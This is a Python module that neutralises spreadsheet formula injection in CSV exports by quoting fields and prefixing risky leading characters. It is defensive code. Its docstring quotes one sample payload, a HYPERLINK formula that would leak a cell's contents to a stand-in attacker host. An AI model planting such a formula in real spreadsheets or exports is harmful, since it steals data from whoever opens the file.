"""CSV that a spreadsheet opens safely: no cell runs as a formula, and Excel reads UTF-8.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and some
skip a leading tab, carriage return or NUL first), so a partner's title such as
``=HYPERLINK("http://evil.example/?x="&B2,"Open")`` would act when an operator opens the export.
Following OWASP's CSV injection guidance and ASVS 5.0 (V1.2.10): every field is quoted, quotes
inside doubled (RFC 4180), and a text beginning with one of those characters gets a single quote
in front, which the spreadsheet shows as text. Numbers are written as they are: they cannot be a
formula. Excel guesses a legacy code page for a CSV file without a byte-order mark (Arabic and
Russian become mojibake), so files begin with one (``utf-8-sig``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

# OWASP's list (= + - @ tab CR) and ASVS 5.0's (which adds NUL); LF for the same reason as CR.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
ENCODING = "utf-8-sig"  # UTF-8 with a byte-order mark: what Excel needs to read UTF-8


def cell(value: Any) -> Any:
    """A value as a spreadsheet must receive it: a text that could start a formula, quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> str:
    """The rows as CSV with a header line: every field quoted, every cell neutralised."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows({name: cell(value) for name, value in row.items()} for row in rows)
    return out.getvalue()
